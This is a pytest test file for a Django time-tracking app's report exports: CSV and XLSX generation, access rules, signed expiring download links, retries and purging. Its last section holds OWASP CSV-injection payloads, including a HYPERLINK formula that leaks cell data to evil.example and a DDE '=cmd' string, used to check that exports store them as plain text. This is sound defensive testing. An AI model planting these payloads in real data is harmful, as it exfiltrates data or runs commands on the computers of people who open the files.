"""Exports: asked over the API, built by the task (called directly, twice), private links."""

from __future__ import annotations

import csv
import io
import time
from datetime import UTC, datetime, timedelta

import pytest
from django.core import signing
from openpyxl import load_workbook

from changelog.models import Change
from changelog.sequencer import number_pending
from reports import services
from reports.models import ExportStatus, ReportExport
from tests.support.api import assert_error
from tracking import services as tracking

pytestmark = pytest.mark.django_db(transaction=True)
URL = "/api/v1/reports/exports"


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def entries(world):
    membership = world.users["member"].memberships.get(company=world.a)
    start = datetime(2026, 6, 1, 9, tzinfo=UTC)
    for n in range(5):
        tracking.entry_create(
            membership=membership,
            data={
                "project_id": world.project_open.id,
                "started_at": start + timedelta(days=n),
                "ended_at": start + timedelta(days=n, hours=1),
                "description": f"Überprüfung #{n} — naïve café",
            },
        )


def ask(world, role="member", **body):
    data = {"report": "time_entries", "format": "csv", "from": "2026-06-01", "to": "2026-06-30", "tz": "UTC", **body}
    response = world.api(role).post(URL, data, format="json")
    assert response.status_code == 202, response.content
    return response.json()


def build(export_id):
    services.export_build(export_id=export_id)
    return ReportExport.objects.get(pk=export_id)


def download(api, export_id) -> bytes:
    status = api.get(f"{URL}/{export_id}").json()
    assert status["status"] == "READY", status
    response = api.get(status["download_url"].replace("http://testserver", ""))
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_a_csv_of_time_entries_opens_in_excel_with_its_accents(world, entries):
    asked = ask(world)
    assert asked["status"] == "PENDING"
    export = build(asked["id"])
    assert (export.status, export.rows, export.attempts) == (ExportStatus.READY, 5, 1)
    assert build(asked["id"]).attempts == 1  # a second delivery of the task does nothing
    body = download(world.api("member"), asked["id"])
    assert body.startswith("\ufeff".encode())  # the BOM Excel needs for UTF-8
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert len(rows) == 5
    assert rows[0]["description"] == "Überprüfung #0 — naïve café"
    assert rows[0]["duration_seconds"] == "3600"
    assert rows[0]["project"] == "Open"


def test_an_xlsx_team_export_opens_with_openpyxl(world, entries):
    asked = ask(world, role="owner", report="team", format="xlsx")
    build(asked["id"])
    workbook = load_workbook(io.BytesIO(download(world.api("owner"), asked["id"])), read_only=True)
    rows = list(workbook.active.values)
    assert rows[0][:3] == ("user_email", "user_name", "tracked_seconds")
    member = next(r for r in rows[1:] if r[1] == "Member")
    assert member[2] == 5 * 3600
    assert len(rows) == 1 + 6  # every member of company A, no one else


def test_only_the_requester_and_owner_or_admin_see_an_export(world, entries):
    asked = ask(world)
    build(asked["id"])
    for role in ("member", "owner", "admin"):
        assert world.api(role).get(f"{URL}/{asked['id']}").status_code == 200, role
    for role in ("manager", "lead", "loner", "outsider"):
        assert_error(world.api(role).get(f"{URL}/{asked['id']}"), 404)
        assert asked["id"] not in [e["id"] for e in world.api(role).get(URL).json()["results"]]
    # and nobody exports another company's data
    body = {"report": "team", "format": "csv", "from": "2026-06-01", "to": "2026-06-30"}
    assert_error(world.api("outsider").post(f"{URL}?company={world.a.id}", body, format="json"), 404)
    assert ReportExport.objects.count() == 1


def test_download_links_are_signed_short_lived_and_for_one_export(world, entries, settings):
    first, second = ask(world), ask(world)
    build(first["id"])
    build(second["id"])
    api = world.api("member")
    url = api.get(f"{URL}/{first['id']}").json()["download_url"].replace("http://testserver", "")
    anonymous = type(api)()
    assert anonymous.get(url).status_code == 200  # the signature is the credential
    assert_error(anonymous.get(url.replace(first["id"], second["id"])), 404)  # not another export's
    assert_error(anonymous.get(url[:-3] + "abc"), 404)  # tampered
    signed_earlier = signing.TimestampSigner(salt="report-export").sign(first["id"])
    settings.EXPORT_LINK_SECONDS = 1
    time.sleep(1.1)
    assert_error(anonymous.get(url.split("?token=")[0] + "?token=" + signed_earlier), 404)  # expired


def test_report_ready_reaches_the_requester_only(world, entries):
    asked = ask(world)
    build(asked["id"])
    number_pending()
    change = Change.objects.get(entity="report_export", entity_id=asked["id"])
    assert change.event == "report.ready"
    member, owner = world.api("member"), world.api("owner")
    assert asked["id"] in [
        c["id"] for c in member.get(f"/api/v1/sync/changes?cursor={change.cursor - 1}").json()["changes"]
    ]
    assert asked["id"] not in [
        c["id"] for c in owner.get(f"/api/v1/sync/changes?cursor={change.cursor - 1}").json()["changes"]
    ]


def test_a_failing_export_is_retried_then_failed_with_its_reason(world, entries, monkeypatch):
    from reports import exports

    asked = ask(world)

    def broken(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(exports, "write", broken)
    for _ in range(2):
        with pytest.raises(OSError, match="disk full"):
            services.export_build(export_id=asked["id"])
        assert ReportExport.objects.get(pk=asked["id"]).status == ExportStatus.PENDING
    assert services.export_build(export_id=asked["id"]) is None
    export = ReportExport.objects.get(pk=asked["id"])
    assert (export.status, export.attempts) == (ExportStatus.FAILED, 3)
    assert "disk full" in export.error
    assert world.api("member").get(f"{URL}/{asked['id']}").json()["download_url"] is None


def test_expired_exports_and_their_files_are_purged(world, entries):
    from django.core.files.storage import default_storage

    export = build(ask(world)["id"])
    assert default_storage.exists(export.file_key)
    assert services.exports_purge(now=export.expires_at - timedelta(seconds=1)) == 0
    assert services.exports_purge(now=export.expires_at + timedelta(seconds=1)) == 1
    assert not default_storage.exists(export.file_key)
    assert not ReportExport.objects.exists()


@pytest.mark.parametrize(
    ("body", "attr"),
    [
        ({"report": "payroll"}, "report"),
        ({"format": "pdf"}, "format"),
        ({"to": "2026-05-01"}, "to"),
        ({"filters": {"colour": "red"}}, "filters"),
        ({"tz": "Mars/Base"}, "tz"),
    ],
)
def test_bad_export_requests_are_400(world, body, attr):
    data = {"report": "time_entries", "format": "csv", "from": "2026-06-01", "to": "2026-06-30", **body}
    assert_error(world.api("member").post(URL, data, format="json"), 400, attr=attr)
    assert not ReportExport.objects.exists()


@pytest.mark.slow
def test_a_real_worker_builds_the_export_and_the_link_downloads_it(world, entries, celery_worker_process):
    asked = ask(world)  # the request's on-commit queues build_export on the worker's queue
    deadline = time.monotonic() + 30
    while ReportExport.objects.get(pk=asked["id"]).status != ExportStatus.READY:
        assert time.monotonic() < deadline, ReportExport.objects.get(pk=asked["id"]).error
        time.sleep(0.2)
    rows = list(csv.reader(io.StringIO(download(world.api("member"), asked["id"]).decode("utf-8-sig"))))
    assert len(rows) == 6


def test_an_exports_change_is_routed_to_its_requester_alone(world):
    from changelog import audience

    change = Change(id=1, company_id=world.a.id, user_id=world.users["member"].id, entity="report_export")
    assert audience.groups_for([change]) == {1: [f"u.{world.users['member'].id}"]}


def test_owner_sees_only_their_companys_exports_in_the_admin_and_deleting_removes_the_file(client, world, entries):
    from django.core.files.storage import default_storage
    from django.urls import reverse

    from accounts.tests.factories import PASSWORD

    ours = build(ask(world)["id"])
    theirs = ReportExport.objects.create(
        company=world.b, requested_by=world.users["outsider"], report="team", format="csv"
    )
    assert client.login(email=world.users["owner"].email, password=PASSWORD)
    html = client.get(reverse("admin:reports_reportexport_changelist")).content.decode()
    assert reverse("admin:reports_reportexport_change", args=[ours.pk]) in html
    assert reverse("admin:reports_reportexport_change", args=[theirs.pk]) not in html
    assert client.get(reverse("admin:reports_reportexport_change", args=[theirs.pk])).status_code == 302
    client.post(reverse("admin:reports_reportexport_delete", args=[ours.pk]), {"post": "yes"})
    assert not ReportExport.objects.filter(pk=ours.pk).exists()
    assert not default_storage.exists(ours.file_key)
    assert ReportExport.objects.filter(pk=theirs.pk).exists()


def test_the_schema_says_the_export_list_is_a_cursor_page(world):
    # Found by schema fuzzing: the schema promised a bare array.
    schema = world.api("owner").get("/api/schema/", HTTP_ACCEPT="application/json").json()
    ok = schema["paths"]["/api/v1/reports/exports"]["get"]["responses"]["200"]["content"]["application/json"]
    page = schema["components"]["schemas"][ok["schema"]["$ref"].rsplit("/", 1)[1]]
    assert set(page["properties"]) == {"next", "previous", "results"}
    assert set(world.api("owner").get(URL).json()) == {"next", "previous", "results"}


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\tTabbed",
    "\rReturned",
]


@pytest.fixture
def hostile_entries(world):
    """A member whose name and descriptions are spreadsheet formulas (OWASP CSV injection)."""
    member = world.users["member"]
    member.name = "=cmd|' /C calc'!A0"
    member.save(update_fields=["name"])
    membership = member.memberships.get(company=world.a)
    start = datetime(2026, 6, 1, 9, tzinfo=UTC)
    for n, text in enumerate(HOSTILE):
        tracking.entry_create(
            membership=membership,
            data={
                "project_id": world.project_open.id,
                "started_at": start + timedelta(days=n),
                "ended_at": start + timedelta(days=n, hours=1),
                "description": text,
            },
        )


def test_a_csv_export_writes_formula_like_text_as_text(world, hostile_entries):
    asked = ask(world)
    build(asked["id"])
    body = download(world.api("member"), asked["id"]).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    # every hostile cell is prefixed with a single quote, so a spreadsheet shows it as text
    assert [r["description"] for r in rows] == ["'" + text for text in HOSTILE]
    assert {r["user_name"] for r in rows} == {"'=cmd|' /C calc'!A0"}
    # numbers stay numbers, plain text stays as it was
    assert {r["duration_seconds"] for r in rows} == {"3600"}
    assert {r["project"] for r in rows} == {"Open"}


def test_an_xlsx_export_stores_formula_like_text_as_text_not_formulas(world, hostile_entries):
    asked = ask(world, format="xlsx")
    build(asked["id"])
    workbook = load_workbook(io.BytesIO(download(world.api("member"), asked["id"])))
    sheet = workbook.active
    header = [c.value for c in sheet[1]]
    description = sheet.cell(row=1, column=header.index("description") + 1).column_letter
    name = sheet.cell(row=1, column=header.index("user_name") + 1).column_letter
    seconds = sheet.cell(row=1, column=header.index("duration_seconds") + 1).column_letter
    cells = sheet[f"{description}2:{description}{len(HOSTILE) + 1}"]
    # text cells, never "f" (XML reads a carriage return back as a line feed: still text)
    assert [(c.value, c.data_type) for (c,) in cells] == [(text.replace("\r", "\n"), "s") for text in HOSTILE]
    assert {(c.value, c.data_type) for (c,) in sheet[f"{name}2:{name}{len(HOSTILE) + 1}"]} == {
        ("=cmd|' /C calc'!A0", "s")
    }
    assert {(c.value, c.data_type) for (c,) in sheet[f"{seconds}2:{seconds}{len(HOSTILE) + 1}"]} == {(3600, "n")}


def test_an_xlsx_team_export_keeps_numbers_numeric_and_names_textual(world, hostile_entries):
    asked = ask(world, role="owner", report="team", format="xlsx")
    build(asked["id"])
    sheet = load_workbook(io.BytesIO(download(world.api("owner"), asked["id"]))).active
    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == "=cmd|' /C calc'!A0")
    assert row[1].data_type == "s"
    assert (row[2].value, row[2].data_type) == (len(HOSTILE) * 3600, "n")
